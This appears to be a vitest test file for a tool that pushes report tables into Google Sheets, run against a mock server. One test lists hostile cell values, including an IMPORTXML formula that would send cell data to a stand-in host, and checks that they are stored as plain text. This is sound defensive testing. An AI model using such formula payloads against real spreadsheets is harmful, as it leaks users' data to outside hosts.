import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, onTestFinished, test } from 'vitest';
import { fieldLabel, formerLabel } from '../../../pipeline/rows/field-labels.ts';
import { type PushError, readServiceAccount } from '../../../pipeline/sheets/client.ts';
import { pushTable } from '../../../pipeline/sheets/push-table.ts';
import type { SheetTable } from '../../../pipeline/sheets/tables.ts';
import { formulasOf, newTab, type Tab, tableOf } from './sheets-grid.ts';
import { clientEmail, errorBody, privateKeyText, type SheetsServer, startSheetsServer } from './sheets-server.ts';

type TabTarget = Parameters<typeof pushTable>[1];

const spreadsheetId = 'invented-spreadsheet-0001';
const workspaceId = '019a0000-0000-7000-8000-000000000001';
const signal = AbortSignal.timeout(30_000);

let server: SheetsServer;
let tabs: Tab[];
beforeEach(async () => {
  server = await startSheetsServer();
  tabs = server.share(spreadsheetId);
  server.allow(spreadsheetId, workspaceId);
});
afterEach(() => server.close());

/** Returns an invented report table with one row per name. */
function table(reportId: string, ...names: string[]): SheetTable {
  return {
    columns: ['Name', 'Report ID', 'Followers', 'Seen (UTC)'],
    former_columns: [['name', 'report_id', 'followers', 'seen (UTC)']],
    rows: names.map((name, index) => [name, reportId, index + 10, 46_024.5]),
    key: { column: 'Report ID', value: reportId },
    date_columns: ['Seen (UTC)'],
  };
}

const tabIn = (mode: TabTarget['mode'], sheetName = 'Report'): TabTarget => ({
  workspace_id: workspaceId,
  spreadsheet_id: spreadsheetId,
  sheet_name: sheetName,
  mode,
});
const push = (target: TabTarget, content: SheetTable) => pushTable(server.client, target, content, signal);
const tabNamed = (title: string) => tabs.find((tab) => tab.title === title) ?? expect.fail(`no tab ${title}`);
const contents = (title = 'Report') => tableOf(tabNamed(title));
const problem = (pushed: Promise<unknown>) =>
  pushed.then(
    () => expect.fail('the push succeeded'),
    ({ problem, message }: PushError) => ({ problem, message }),
  );

describe.each(['append', 'replace'] as const)('a push in %s mode', (mode) => {
  test('a push creates a missing tab with a frozen header', async () => {
    expect(await push(tabIn(mode), table('r1', 'a', 'b'))).toBe(2);
    expect(tabNamed('Report').frozen_rows).toBe(1);
    expect(contents()).toEqual([
      ['Name', 'Report ID', 'Followers', 'Seen (UTC)'],
      ['a', 'r1', 10, 46_024.5],
      ['b', 'r1', 11, 46_024.5],
    ]);
  });

  test('a push keeps text as text, never as a formula, number, date or boolean', async () => {
    const hostile = ['=IMPORTXML("http://x.example/"&A1)', '+1', '-2', '@a', '0012', '1/2', '10%', 'TRUE', "'quoted"];
    await push(tabIn(mode), table('7350000000000000001', ...hostile));
    expect(formulasOf(tabNamed('Report'))).toEqual([]);
    expect(
      contents()
        .slice(1)
        .map((row) => row[0]),
    ).toEqual(hostile);
    expect(contents()[1]?.[1]).toBe('7350000000000000001');
  });

  test('a push writes numbers as numbers and times as dates', async () => {
    await push(tabIn(mode), table('r1', 'a'));
    const types = [1, 2, 3, 4].map((column) => tabNamed('Report').cells.get(`2,${column}`)?.type);
    expect(types).toEqual(['text', 'text', 'number', 'number']);
    expect([...tabNamed('Report').formats]).toEqual([[3, 'yyyy-mm-dd hh:mm']]);
  });

  test('a push writes an unknown value as an empty cell', async () => {
    const one = table('r1', 'a', 'b');
    one.rows[0] = ['a', 'r1', '', ''];
    await push(tabIn(mode), one);
    expect(contents()[1]).toEqual(['a', 'r1']);
  });

  test('a push enlarges a tab that is too small, and accepts any tab name', async () => {
    const small = newTab(7, "Anna's 'week' 1:2!", 2, 2);
    tabs.push(small);
    await push(tabIn(mode, small.title), table('r1', 'a', 'b', 'c', 'd'));
    expect(contents(small.title)).toHaveLength(5);
    expect(small.columns).toBe(4);
  });

  test('a push has the same result when it is retried after a lost answer', async () => {
    server.mishaps.push({ path: /:append$|values:batchUpdate$/, status: 0, lost: true });
    expect((await problem(push(tabIn(mode), table('r1', 'a')))).problem).toBe('TRY_AGAIN');
    await push(tabIn(mode), table('r1', 'a'));
    expect(contents()).toHaveLength(2);
  });

  test.each([
    [429, 'RESOURCE_EXHAUSTED'],
    [500, 'INTERNAL'],
    [503, 'UNAVAILABLE'],
  ])('a push reports HTTP %d of Google as TRY_AGAIN', async (status, word) => {
    server.mishaps.push({ path: /spreadsheets/, status, body: errorBody(status, `invented ${word}`) });
    expect(await problem(push(tabIn(mode), table('r1', 'a')))).toEqual({
      problem: 'TRY_AGAIN',
      message: `Google is busy, so we try again later: invented ${word}`,
    });
    expect(server.requests.filter((line) => line.includes('spreadsheets'))).toHaveLength(1);
  });
});

describe('a push in append mode only', () => {
  test('a push in append mode writes the next table below, without a second header', async () => {
    await push(tabIn('append'), table('r1', 'a', 'b'));
    await push(tabIn('append'), table('r2', 'c'));
    expect(contents().map((row) => row.slice(0, 2))).toEqual([
      ['Name', 'Report ID'],
      ['a', 'r1'],
      ['b', 'r1'],
      ['c', 'r2'],
    ]);
  });

  test('a push in append mode continues a tab that has the headings of an earlier version', async () => {
    const former = table('r1', 'a');
    await push(tabIn('append'), {
      ...former,
      columns: former.former_columns[0] ?? [],
      key: { column: 'report_id', value: 'r1' },
    });
    expect(await push(tabIn('append'), table('r1', 'a'))).toBe(0);
    expect(await push(tabIn('append'), table('r2', 'b'))).toBe(1);
    expect(contents().map((row) => row.slice(0, 2))).toEqual([
      ['name', 'report_id'],
      ['a', 'r1'],
      ['b', 'r2'],
    ]);
  });

  test('a push in append mode continues a tab in which channel views are still called total views', async () => {
    const columns = [formerLabel('total_views_change_percent'), 'Report ID'];
    expect(columns[0]).toBe('Total views change (%)');
    const key = { column: 'Report ID', value: 'r1' };
    const former = { ...table('r1'), columns, former_columns: [], rows: [[1, 'r1']], key, date_columns: [] };
    await push(tabIn('append'), former);
    const now = [fieldLabel('total_views_change_percent'), 'Report ID'];
    const renamed = { ...former, columns: now, former_columns: [columns], rows: [[2, 'r2']] };
    expect(renamed.columns[0]).toBe('Channel views change (%)');
    expect(await push(tabIn('append'), { ...renamed, key: { ...key, value: 'r2' } })).toBe(1);
    expect(contents()).toEqual([columns, [1, 'r1'], [2, 'r2']]);
  });

  test('a push in append mode does not write a table that the tab already has', async () => {
    await push(tabIn('append'), table('r1', 'a'));
    await push(tabIn('append'), table('r2', 'b'));
    expect(await push(tabIn('append'), table('r1', 'a'))).toBe(0);
    expect(contents()).toHaveLength(3);
  });

  test('a push in append mode moves cells below the table down instead of overwriting them', async () => {
    await push(tabIn('append'), table('r1', 'a'));
    tabNamed('Report').cells.set('4,1', { type: 'text', value: 'a note of mine' });
    await push(tabIn('append'), table('r2', 'b', 'c'));
    expect(contents().map((row) => row[0])).toEqual(['Name', 'a', 'b', 'c', undefined, 'a note of mine']);
  });

  test('a push in append mode keeps columns of the user to the right of the table', async () => {
    await push(tabIn('append'), table('r1', 'a'));
    tabNamed('Report').columns = 5;
    tabNamed('Report').cells.set('1,5', { type: 'text', value: 'my column' });
    expect(await push(tabIn('append'), table('r2', 'b'))).toBe(1);
    expect(contents()[0]?.[4]).toBe('my column');
  });

  test('a push in append mode does not change a tab with other content', async () => {
    tabNamed('Sheet1').cells.set('1,1', { type: 'text', value: 'my accounts' });
    expect((await problem(push(tabIn('append', 'Sheet1'), table('r1', 'a')))).problem).toBe('OTHER_TABLE');
    expect(contents('Sheet1')).toEqual([['my accounts']]);
  });
});

describe('a push in replace mode only', () => {
  test('a push in replace mode removes everything except its table from the tab', async () => {
    await push(tabIn('replace'), table('r1', 'a', 'b', 'c'));
    tabNamed('Report').columns = 6;
    tabNamed('Report').cells.set('2,6', { type: 'text', value: 'beside' });
    tabNamed('Report').cells.set('9,1', { type: 'text', value: 'below' });
    await push(tabIn('replace'), table('r2', 'd'));
    expect(contents()).toEqual([
      ['Name', 'Report ID', 'Followers', 'Seen (UTC)'],
      ['d', 'r2', 10, 46_024.5],
    ]);
  });

  test('a push in replace mode leaves the new table and not an empty tab after a failure between its steps', async () => {
    await push(tabIn('replace'), table('r1', 'a', 'b'));
    server.mishaps.push({ path: /batchClear$/, status: 429 });
    await problem(push(tabIn('replace'), table('r2', 'c')));
    expect(contents().map((row) => row[0])).toEqual(['Name', 'c', 'b']);
    await push(tabIn('replace'), table('r2', 'c'));
    expect(contents().map((row) => row[0])).toEqual(['Name', 'c']);
  });
});

describe('an error of a push that a person must fix', () => {
  test('a push says with whom to share a spreadsheet that is not shared', async () => {
    server.hidden.add(spreadsheetId);
    expect(await problem(push(tabIn('append'), table('r1', 'a')))).toEqual({
      problem: 'NOT_SHARED',
      message: `Share the spreadsheet with ${clientEmail} as an editor.`,
    });
  });

  test('a push reports a spreadsheet that does not exist', async () => {
    const elsewhere = { ...tabIn('append'), spreadsheet_id: 'invented-spreadsheet-9999' };
    expect((await problem(push(elsewhere, table('r1', 'a')))).problem).toBe('SHEET_NOT_FOUND');
  });

  test('a push reports that the Sheets API is off in the Google project', async () => {
    const body = errorBody(403, 'Google Sheets API has not been used in project 1', 'SERVICE_DISABLED');
    server.mishaps.push({ path: /spreadsheets/, status: 403, body });
    expect((await problem(push(tabIn('append'), table('r1', 'a')))).problem).toBe('NOT_CONFIGURED');
  });

  test('a push repeats the message of Google for a protected tab', async () => {
    const googleMessage = 'You are trying to edit a protected cell or object.';
    server.mishaps.push({ path: /:append$/, status: 400, body: errorBody(400, googleMessage) });
    expect(await problem(push(tabIn('append'), table('r1', 'a')))).toEqual({
      problem: 'REFUSED',
      message: `Google refused this: ${googleMessage}`,
    });
  });

  test('a push reports a service account key that Google does not accept', async () => {
    server.mishaps.push({ path: /^\/token$/, status: 400, body: { error: 'invalid_grant', error_description: 'no' } });
    const { problem: what, message } = await problem(push(tabIn('append'), table('r1', 'a')));
    expect([what, message]).toEqual(['NOT_CONFIGURED', expect.stringContaining('invalid_grant')]);
  });
});

test('the Sheets client signs in once and calls each method once', async () => {
  await push(tabIn('append'), table('r1', 'a'));
  await push(tabIn('append'), table('r2', 'a'));
  expect(server.requests.filter((line) => line === 'POST /token')).toHaveLength(1);
});

test('the Sheets client calls a failing token endpoint once per push', async () => {
  server.mishaps.push({ path: /^\/token$/, status: 503 });
  expect((await problem(push(tabIn('append'), table('r1', 'a')))).problem).toBe('TRY_AGAIN');
  expect(server.requests).toEqual(['POST /token']);
});

test('an error of the Sheets client contains neither the key nor the token', async () => {
  server.hidden.add(spreadsheetId);
  const error = await push(tabIn('append'), table('r1', 'a')).catch((thrown: unknown) => thrown);
  const { inspect } = await import('node:util');
  expect(inspect(error, { depth: 10, showHidden: true })).not.toMatch(/ya29|PRIVATE KEY|Bearer/);
});

test('a push to a spreadsheet stops at its time-out', async () => {
  const { client, requests } = server;
  await expect(pushTable(client, tabIn('append'), table('r1', 'a'), AbortSignal.abort())).rejects.toThrow();
  expect(requests.filter((line) => line.includes('spreadsheets'))).toEqual([]);
});

describe('the key file of a service account', () => {
  const written = async (content: string) => {
    const folder = await mkdtemp(join(tmpdir(), 'tidemark-account-'));
    onTestFinished(() => rm(folder, { recursive: true }));
    const path = join(folder, 'account.json');
    await writeFile(path, content);
    return path;
  };

  test('the key file of a service account is read in the format of Google', async () => {
    const path = await written(
      JSON.stringify({
        type: 'service_account',
        client_email: clientEmail,
        private_key: privateKeyText,
        token_uri: 'x',
      }),
    );
    expect(readServiceAccount(path)).toEqual({ client_email: clientEmail, private_key: privateKeyText });
  });

  test.each([
    ['no JSON', '{', /cannot be read: it is not JSON/],
    ['no object', '[]', /is not a key file of a service account/],
    ['no key', JSON.stringify({ client_email: clientEmail }), /: check private_key\.$/],
    [
      'a broken key',
      JSON.stringify({ client_email: clientEmail, private_key: 'secret PRIVATE KEY' }),
      /: check private_key\.$/,
    ],
  ])('a key file of a service account with %s is refused without showing its content', async (_, content, message) => {
    const path = await written(content);
    expect(() => readServiceAccount(path)).toThrow(message);
    expect(() => readServiceAccount(path)).not.toThrow(/secret/);
  });

  test('a missing key file of a service account is named in the error', () => {
    expect(() => readServiceAccount('/nowhere/account.json')).toThrow(/\/nowhere\/account.json cannot be read: ENOENT/);
  });
});
